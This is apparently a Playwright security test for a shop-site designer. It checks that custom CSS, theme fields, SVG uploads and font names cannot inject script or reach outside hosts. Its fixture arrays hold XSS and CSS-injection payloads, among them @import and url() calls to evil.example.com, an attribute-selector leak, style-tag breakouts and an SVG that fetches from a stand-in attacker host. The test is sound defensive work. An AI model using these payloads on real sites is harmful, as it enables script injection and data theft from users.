import { expect, type Page } from '@playwright/test'
import { brokenLetters } from '../server/testing/letters.ts'
import { upload } from '../server/testing/uploads.ts'
import { openDesigner } from './support/designer.ts'
import { startEnvironment, type TestEnvironment } from './support/environment.ts'
import { enter } from './support/site.ts'
import { test } from './support/test.ts'

let shop: TestEnvironment
let person: { email: string; password: string }
test.beforeAll(async () => {
  shop = await startEnvironment('tienda', 'Tienda')
  const blockId = await shop.create('block', { name: 'Texto', content: '<p class="own">Hola</p>' })
  await shop.create('view', { name: 'Inicio', title: 'Inicio', path: '/', items: [{ type: 'block', blockId }] })
  await shop.create('link', { name: 'Inicio', title: 'Al inicio', type: 'path', path: '/' })
  person = await shop.member('ana@example.com')
})
test.afterAll(() => shop.close())

const evil = 'evil.example.com'
const script = '<script>window.ran = true</script>'

/** CSS that loads, runs, spies, or reaches out of the pages of the environment. Each begins anew: what breaks one must not hide the next. */
const sheets = [
  `@import "https://${evil}/a.css";`,
  `@import url(//${evil}/b.css) screen;`,
  `@font-face { font-family: Inter; src: url(https://${evil}/c.woff2) } body { font-family: Inter }`,
  `.own { background: url(https://${evil}/d.png) }`,
  `.own { background-image: image-set("https://${evil}/e.png" 1x) }`,
  `.own { background: \\75 rl(https://${evil}/f.png) }`,
  `.own { --leak: url(https://${evil}/g.png); background: var(--leak) }`,
  `.own { list-style-image: url('http://${evil}/h.png'); cursor: url(https://${evil}/i.cur), auto }`,
  `.own { content: url(https://${evil}/j.png); mask: url(https://${evil}/k.svg#m); filter: url(https://${evil}/l.svg#f) }`,
  `input[value^="a"] { background: url(https://${evil}/m?a) }`,
  `.own { width: expression(window.ran = true); behavior: url(#default#x); -moz-binding: url(https://${evil}/n.xml#x) }`,
  `.own { background: url(javascript:window.ran=true) }`,
  `</style>${script}<style>`,
  `--></style><img src=x onerror="window.ran = true"><!--`,
  `@namespace svg url(https://${evil}/o); @property --telar-primary { syntax: "<color>"; inherits: true; initial-value: red }`,
  `@layer outside { aside { display: none !important } }`,
  `} } } html, body, :root { --telar-primary: red !important; display: none !important }`,
  `:root:root:root, html { visibility: hidden !important }`,
  `.own { position: fixed; inset: 0; z-index: 2147483647; background: red }`,
  `* { animation: gone 1ms forwards } @keyframes gone { to { opacity: 1 } }`,
  `.own:has(+ *) { background: url(https://${evil}/p) }`,
]

const drawing = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="60" height="30" onload="parent.ran = true">
  <script>parent.ran = true; fetch('https://${evil}/svg')</script>
  <style>@import "https://${evil}/svg.css"; rect { fill: url(https://${evil}/fill.svg#a) }</style>
  <image xlink:href="https://${evil}/image.png" width="10" height="10"/>
  <foreignObject width="60" height="30"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://${evil}/frame"/><img src="x" onerror="parent.ran = true"/></body></foreignObject>
  <a xlink:href="javascript:parent.ran=true"><rect width="60" height="30"/></a>
</svg>`

const set = (data: object) =>
  shop.designer.execute('mutation ($data: JSON!) { updateEnvironment(environmentId: "tienda", data: $data) { _id } }', {
    data,
  })
const isTaken = async (data: object) => (await set(data)).errors === undefined

/** What leaves for elsewhere, and dialogs that something opened. */
function watched(page: Page, hosts: Set<string>) {
  page.on('request', request => {
    const { protocol, hostname } = new URL(request.url())
    if (protocol.startsWith('http') || protocol.startsWith('ws')) hosts.add(hostname)
  })
  page.on('dialog', dialog => {
    hosts.add(`dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
}
const ran = (page: Page) => page.evaluate(() => 'ran' in window)
const outside = (hosts: Set<string>) => [...hosts].filter(host => host !== 'localhost' && !host.endsWith('.localhost'))

/** Where everything of the frame around the page stands, and what it looks like. */
const looks = (page: Page) =>
  page.evaluate(() =>
    [...document.querySelectorAll('html, body, header, header *, aside, aside *, main')]
      // In the page itself stands, on purpose, how the site looks.
      .filter(element => !element.parentElement?.closest('main'))
      .map(element => {
        const { color, backgroundColor, backgroundImage, font, display, visibility, opacity, position } =
          getComputedStyle(element)
        const { x, y, width, height } = element.getBoundingClientRect()
        const place =
          element.tagName === 'MAIN' || element.tagName === 'HTML' || element.tagName === 'BODY'
            ? []
            : [x, y, width, height]
        return [
          element.tagName,
          color,
          backgroundColor,
          backgroundImage,
          font,
          display,
          visibility,
          opacity,
          position,
          ...place,
        ].join(' ')
      }),
  )
/** With the last that comes to the frame, whose code is loaded when nothing else is. */
async function drawn(page: Page) {
  await page.waitForLoadState('networkidle')
  await expect(page.getByRole('button', { name: 'Notificaciones', exact: true })).toBeVisible()
}
const screens = ['', '/settings/general', '/settings/appearance', '/design']

test('nothing that a look is made of runs, loads from elsewhere or reaches the area of who designs it', async ({
  page,
}) => {
  const hosts = new Set<string>()
  watched(page, hosts)
  const before: string[][] = []
  for (const path of screens) {
    await openDesigner(page, shop, path.slice(1))
    await drawn(page)
    before.push(await looks(page))
  }

  // What is a colour, a family or a path is refused where it is anything else.
  for (const value of [
    `red;}</style>${script}`,
    'url(https://evil.example.com)',
    'expression(1)',
    '#12345',
    'var(--x)',
  ])
    for (const name of ['accentColor', 'backgroundColor', 'sideBarColor', 'sideBarTextColor'])
      expect(await isTaken({ [name]: value }), `${name} ${value}`).toBe(false)
  expect(await isTaken({ fontName: `Inter"; } </style>${script}` })).toBe(false)
  for (const redirectUrl of ['javascript:window.ran=true', 'data:text/html,<script>1</script>'])
    expect(await isTaken({ redirect: true, redirectUrl }), redirectUrl).toBe(false)
  await set({ redirect: false })

  // What is taken does nothing: pictures with programs in them, a name that ends its tag, and all the sheets, each by itself and at once.
  const file = { name: 'marca.svg', content: drawing, type: 'image/svg+xml' }
  const { bucket, key, url } = await upload(shop.designer, 'tienda', file)
  const picture = `${bucket}/${key}`
  const letters = await upload(shop.designer, 'tienda', {
    name: `a");}*{color:red}.woff2`,
    content: brokenLetters['text behind the header'] ?? '',
    type: 'font/woff2',
  })
  expect(
    await isTaken({
      ...{ logo: picture, icon: picture, loginLogo: picture, authBackgroundImage: picture },
      ...{ fontName: 'own', fontFile: `${letters.bucket}/${letters.key}`, accentColor: '#0b5c4a' },
      name: `Tienda</title>${script}`,
    }),
  ).toBe(true)
  for (const customCss of [...sheets, sheets.join('\n'), sheets.toReversed().join('\n')]) {
    if (!(await isTaken({ useCustomCss: true, customCss }))) continue
    await enter(page, shop.url, person)
    await expect(page.getByText('Hola'), customCss).toBeVisible()
    await expect(page.getByRole('link', { name: 'Al inicio' }), customCss).toBeVisible()
    expect(await ran(page), customCss).toBe(false)
    expect(outside(hosts), customCss).toEqual([])
    const own = page.locator('.own')
    expect(await own.evaluate(element => getComputedStyle(element).position), customCss).not.toBe('fixed')
  }
  await page.evaluate(() => localStorage.clear())
  await page.goto(`${shop.url}/login`)
  await expect(page.getByLabel('Correo')).toBeVisible()
  expect(await ran(page)).toBe(false)

  // The picture itself, opened as a page, is saved instead of shown.
  const { headers } = await shop.designer.get(url)
  expect(headers['content-disposition']).toMatch(/^attachment/)
  expect(headers['content-security-policy']).toMatch(/^sandbox/)

  await set({ name: 'Tienda', logo: null, icon: null, loginLogo: null, authBackgroundImage: null })
  for (const [at, path] of screens.entries()) {
    await openDesigner(page, shop, path.slice(1))
    await drawn(page)
    await expect.poll(() => looks(page), path).toEqual(before[at])
    expect(await ran(page)).toBe(false)
  }
  expect(outside(hosts)).toEqual([])
})
